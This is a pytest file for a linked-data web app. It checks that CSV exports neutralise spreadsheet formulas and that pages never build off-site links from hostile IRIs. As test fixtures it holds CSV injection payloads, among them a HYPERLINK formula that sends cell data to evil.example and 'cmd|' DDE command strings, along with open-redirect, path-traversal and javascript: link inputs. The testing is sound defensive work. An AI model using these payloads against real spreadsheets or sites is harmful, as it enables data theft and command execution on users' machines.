"""What the public reads is safe: CSV cells a spreadsheet would run as formulas are neutralised (OWASP CSV
injection), and links are built only from IRIs that stay on the site (issue 18, item 7).

The app serves a temporary data folder holding hostile labels and IRIs under the base IRI whose local path
would leave the site (``<base>/evil.example/login`` would become ``//evil.example/login``)."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Iterator
from pathlib import Path

import pytest
import requests

from server import create_app
from server.web.exports import csv_cell
from server.web.view_models import Linker, local_path
from tests.helpers.servers import serve_in_thread

BASE = "https://w3id.org/ptce/"
EVIL = BASE + "/evil.example/login"
DOTS = BASE + "id/../../evil"
FORMULAS = {
    "formula-equals": '=HYPERLINK("https://evil.example/?x="&A1,"Cliquez ici")',
    "formula-plus": "+1+cmd|' /C calc'!A0",
    "formula-minus": "-2+3",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-cr": "\r=1+1",
}
DATA = """@prefix ptce: <https://w3id.org/ptce/ontology#> .
@prefix rdfs: <http://www.w3.org/2000/01/rdf-schema#> .
@prefix schema: <https://schema.org/> .
@prefix geo: <http://www.w3.org/2003/01/geo/wgs84_pos#> .
@prefix xsd: <http://www.w3.org/2001/XMLSchema#> .

<https://w3id.org/ptce/id/pole/honest> a ptce:Pole ;
    rdfs:label "Pôle honnête"@fr ;
    geo:lat "47.3"^^xsd:decimal ; geo:long "-1.55"^^xsd:decimal ;
    rdfs:seeAlso <https://w3id.org/ptce//evil.example/login> , <https://w3id.org/ptce/id/../../evil> .

<https://w3id.org/ptce//evil.example/login> a ptce:Pole ;
    rdfs:label "Connexion piégée"@fr ;
    geo:lat "48.1"^^xsd:decimal ; geo:long "2.5"^^xsd:decimal .

<https://w3id.org/ptce/id/../../evil> a ptce:Pole ;
    rdfs:label "Pôle pointé"@fr .
""" + "".join(
    f"<https://w3id.org/ptce/id/pole/{key}> a ptce:Pole ; rdfs:label {json.dumps(label)}@fr .\n"
    for key, label in FORMULAS.items()
)


@pytest.fixture(scope="module")
def hostile_app(tmp_path_factory):
    """The app over a temporary data folder of hostile labels and IRIs."""
    folder = tmp_path_factory.mktemp("hostile-data")
    (folder / "hostile.ttl").write_text(DATA, encoding="utf-8")
    return create_app({"TESTING": True, "DATA_DIRS": [str(folder)]})


@pytest.fixture(scope="module")
def hostile_live(hostile_app) -> Iterator[str]:
    """A real threaded HTTP server over the hostile app; yields its base URL."""
    with serve_in_thread(hostile_app) as base:
        yield base


def hrefs(html: str) -> list[str]:
    """Every href of a page."""
    return re.findall(r'href="([^"]*)"', html)


def off_site(href: str) -> bool:
    """Whether a link a browser follows from this site leads to another host without saying so."""
    return href.startswith(("//", "/\\", "\\")) or "evil.example" in href and not href.startswith(BASE)


# --- CSV ---------------------------------------------------------------------------------------------


def test_csv_cells_beginning_like_formulas_are_neutralised_and_quoted(hostile_live):
    response = requests.get(hostile_live + "/poles.csv", timeout=30)
    assert response.status_code == 200 and response.headers["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    rows = {row["iri"]: row for row in csv.DictReader(io.StringIO(text))}
    for key, label in FORMULAS.items():
        name = rows[f"{BASE}id/pole/{key}"]["name"]
        assert name == "'" + label, key  # a leading quote: the spreadsheet shows the text, runs nothing
    records = text.split("\r\n")[1:-1]  # the writer ends records with CRLF; a cell's lone CR stays inside
    assert len(records) == len(rows)
    for record in records:
        assert record.startswith('"'), record  # every text cell quoted
        assert not re.search(r"(^|,)[=+\-@\t\r]", record.replace(",-1.55", ",")), record
    honest = rows[f"{BASE}id/pole/honest"]
    assert honest["name"] == "Pôle honnête" and honest["longitude"] == "-1.55"  # numbers stay numbers


def test_csv_cell_leaves_harmless_text_and_numbers_alone():
    assert csv_cell("Dijon") == "Dijon" and csv_cell("Saint-Denis") == "Saint-Denis"
    assert csv_cell(-1.55) == -1.55
    assert [csv_cell(start + "x") for start in "=+-@\t\r"] == ["'" + start + "x" for start in "=+-@\t\r"]


# --- links -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "rest",
    [
        "/evil.example/login",
        "\\evil.example/login",
        "id/\\evil",
        "\t/evil.example",
        "\n/evil.example",
        "id/\x1b/x",
        "id/\x9b/x",
        "id/../../evil",
        "id/./x",
        "id/%2e%2e/x",
        "id/.%2E/x",
        "..",
    ],
)
def test_iris_whose_path_would_leave_the_site_get_no_local_path(rest):
    assert local_path(BASE + rest, BASE) is None
    href = Linker(BASE).href(BASE + rest)
    assert href is None or href.startswith(BASE)  # the full IRI, or no link at all


def test_ordinary_iris_keep_their_local_paths():
    linker = Linker(BASE)
    assert linker.href(BASE + "id/pole/café") == "/id/pole/caf%C3%A9"
    assert linker.href(BASE) == "/"
    assert linker.href(BASE + "id/pole/a..b/c.d") == "/id/pole/a..b/c.d"
    assert linker.href("https://example.org/x") == "https://example.org/x"
    for hostile in ("javascript:alert(1)", "https:evil.example", "https:\t//evil.example", "//evil.example"):
        assert linker.href(hostile) is None, hostile


def test_pages_link_off_site_iris_as_full_iris(hostile_live):
    for path in ("/", "/id/pole/honest", "/?lang=en"):
        response = requests.get(hostile_live + path, headers={"Accept": "text/html"}, timeout=30)
        assert response.status_code == 200, path
        links = hrefs(response.text)
        assert not [h for h in links if off_site(h)], (path, links)
        assert f'href="{EVIL}"' in response.text, path  # linked as the IRI it is, on w3id.org
    page = requests.get(hostile_live + "/id/pole/honest", headers={"Accept": "text/html"}, timeout=30).text
    assert "Connexion piégée" in page and f'href="{DOTS}"' in page
    assert 'href="/evil"' not in page and 'href="//evil.example' not in page


def test_search_json_gives_off_site_iris_no_local_href(hostile_live):
    for query, iri in (("connexion piegee", EVIL), ("pole pointe", DOTS)):
        body = requests.get(hostile_live + "/search.json", params={"q": query}, timeout=30).json()
        result = next(r for r in body["results"] if r["iri"] == iri)
        assert result["href"] == iri, result
    honest = requests.get(hostile_live + "/search.json", params={"q": "honnete"}, timeout=30).json()
    assert honest["results"][0]["href"] == "/id/pole/honest"


def test_map_points_carry_safe_links(hostile_live):
    html = requests.get(hostile_live + "/", headers={"Accept": "text/html"}, timeout=30).text
    points = re.search(r'<script type="application/json" id="map-data">(.*?)</script>', html, re.S).group(1)
    hrefs_of_points = {p["iri"]: p["href"] for p in json.loads(points)}
    assert hrefs_of_points[EVIL] == EVIL and hrefs_of_points[BASE + "id/pole/honest"] == "/id/pole/honest"


def test_api_documents_the_csv_neutralisation():
    api = (Path(__file__).resolve().parents[2] / "docs" / "api.md").read_text(encoding="utf-8")
    assert "formula" in api.lower() and "OWASP" in api
